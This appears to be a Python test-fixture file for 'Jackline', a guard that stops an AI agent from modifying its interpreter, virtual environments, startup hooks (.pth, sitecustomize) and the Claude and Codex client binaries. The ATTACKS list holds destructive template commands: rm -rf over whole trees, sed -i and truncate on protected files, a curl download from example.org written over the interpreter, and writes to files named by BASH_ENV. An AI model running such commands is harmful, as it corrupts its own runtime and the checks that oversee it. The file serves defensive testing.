"""What Jackline stands on is protected because it is loaded."""

from __future__ import annotations

from .case import Case

TITLE = "What the door, our command and the client load is changed by no agent, wherever the machine has put it."
FUNCTION = "jackline.features.self_protect.places:stands_on"
NEUTRAL = ""

PLACES = {
    "the interpreter": "<L>/python/bin/python3.11",
    "a link to it": "<L>/bin/python3",
    "its shared library": "<L>/python/lib/libpython3.11.so.1.0",
    "its library": "<L>/python/lib/python3.11/json/__init__.py",
    "a module that hides another": "<L>/python/lib/python3.11/marshal.py",
    "its extensions": "<L>/python/lib/python3.11/lib-dynload/_json.so",
    "its packages' start-up": "<L>/python/lib/python3.11/site-packages/x.pth",
    "its site customisation": "<L>/python/lib/python3.11/site-packages/sitecustomize.py",
    "the environment": "<L>/venv/pyvenv.cfg",
    "the environment's program": "<L>/venv/bin/python",
    "the environment's start-up": "<L>/venv/lib/python3.11/site-packages/a.pth",
    "another package of the environment": "<L>/venv/lib/python3.11/site-packages/orjson.py",
    "the project environment's start-up": "<R>/.venv/lib/python3.11/site-packages/a.pth",
    "the project environment's hook": "<R>/.venv/lib/python3.11/site-packages/usercustomize.py",
    "what it requires, in the project": "<R>/.venv/lib/python3.11/site-packages/yaml/__init__.py",
    "our command": "<H>/.local/bin/jackline",
    "the client": "<H>/.local/bin/claude",
    "what it leads to": "<H>/.local/share/claude/versions/2.1.0",
    "another client's package": "<L>/node/lib/node_modules/@openai/codex/bin/codex.js",
}
FORMS = {
    ("redirection", "echo"): "echo x > {}",
    ("redirection", "append"): "printf x >> {}",
    ("operand", "cp"): "cp src/x {}",
    ("operand", "mv"): "mv src/x {}",
    ("operand", "rm"): "rm -f {}",
    ("operand", "ln"): "ln -sf src/x {}",
    ("operand", "sed"): "sed -i s/a/b/ {}",
    ("operand", "truncate"): "truncate -s 0 {}",
    ("option", "dd"): "dd if=src/x of={}",
    ("option", "curl"): "curl -so {} https://example.org/x",
    ("pipe", "tee"): "cat src/x | tee {}",
    ("code", "python"): "python3 -c \"open('{}', 'w').write('x')\"",
    ("folder", "cd"): "cd /tmp && cp <R>/src/x {}",
}
TREES = {
    "the interpreter's folder": "<L>/python",
    "all of it": "<L>",
    "the environment": "<L>/venv",
    "the client's versions": "<H>/.local/share/claude",
}

COPIES = ("cp {} /tmp/j", "cp -a {} bin/j", "install -m 755 {} /tmp/j", "rsync -a {} /tmp/j", "dd if={} of=/tmp/j")
OURS = ("<H>/.local/bin/jackline", "~/.local/bin/jackline", "$(which jackline)", "<P>")
ATTACKS = [
    *[
        Case(carrier, program, channel, form.format(path))
        for (carrier, program), form in FORMS.items()
        for channel, path in PLACES.items()
    ],
    *[Case("file tool", "Write", channel, {"file_path": path, "content": "x"}, tool="Write")
      for channel, path in PLACES.items()],
    *[Case("folder", "rm", channel, f"rm -rf {path}") for channel, path in TREES.items()],
    *[Case("a copy", form.split()[0], place, form.format(place)) for form in COPIES for place in OURS],
    Case("redirection", "echo", "a shell's snapshot", "echo x >> <H>/.claude/shell-snapshots/snapshot-bash-1.sh"),
    Case("redirection", "echo", "a session's variables", "echo x >> <H>/.claude/session-env/s/hook-1.sh"),
    *[Case("redirection", "echo", f"what {name} names", "echo x >> /srv/env.sh", env=((name, "/srv/env.sh"),))
      for name in ("BASH_ENV", "CLAUDE_ENV_FILE", "ENV")],
]  # fmt: skip

OTHERS = {
    "a package of the project's": "<R>/.venv/lib/python3.11/site-packages/requests/__init__.py",
    "a module of the project's": "<R>/.venv/lib/python3.11/site-packages/six.py",
    "a program of the project's": "<R>/.venv/bin/ruff",
    "another environment": "<R>/env2/lib/python3.11/site-packages/x.py",
    "another environment's configuration": "<R>/env2/pyvenv.cfg",
    "a module with a known name": "<R>/src/json/__init__.py",
    "a module of the project": "<R>/src/sitecustomized.py",
    "a library of the project": "<R>/lib/python3.11/os.py",
    "packages of node": "<R>/node_modules/@openai/codex/index.js",
    "a file of a client's name": "<R>/bin/claude",
    "a command of the project's": "<R>/bin/tool",
    "data of the project's": "<R>/share/app/versions/2.1.0",
    "a folder that begins alike": "<R>/.venv2/pyvenv.cfg",
    "built": "<R>/build/lib/python3.11/x.py",
    "temporary": "/tmp/site-packages/x.py",
    "documents": "<R>/docs/pyvenv.cfg",
    "a test's": "<R>/tests/site-packages/yaml/__init__.py",
    "generated": "<R>/src/yaml/parser.py",
}
PLAIN = """
pip install requests
.venv/bin/pip install -U requests
python3 -m pip install -e .
uv pip install x
uv sync
uv tool upgrade ruff
poetry install
python3 -m venv env2
npm install -g typescript
npm ci
cat <L>/python/lib/python3.11/os.py
ls -l <L>/venv/lib/python3.11/site-packages
grep -rn def <L>/venv/lib/python3.11/site-packages/yaml
cp <L>/python/lib/python3.11/os.py src/os_copy.py
<L>/venv/bin/python -m pytest -q
claude --version
readlink -f <H>/.local/bin/claude
python3 -c "import os; print(os.__file__)"
source .venv/bin/activate && pytest
cat <H>/.claude/shell-snapshots/snapshot-bash-1.sh
find <L>/venv -name '*.pth'
diff -r <L>/python/lib src
which claude
"""
COPIED = ("README.md", "src/app.py", "src", "<L>/python/lib/python3.11/os.py", "<P>/docs/x.md")
INNOCENT = [
    *[Case("a copy", form.split()[0], place, form.format(place).replace("/j", "/copy"), "pass")
      for form in COPIES for place in COPIED],
    *[
        Case(carrier, program, channel, form.format(path), "pass")
        for (carrier, program), form in FORMS.items()
        for channel, path in OTHERS.items()
    ],
    *[Case("file tool", "Write", channel, {"file_path": path, "content": "x"}, "pass", tool="Write")
      for channel, path in OTHERS.items()],
    *[Case("command", line.split()[0], "plain", line, "pass") for line in PLAIN.strip().splitlines()],
]  # fmt: skip
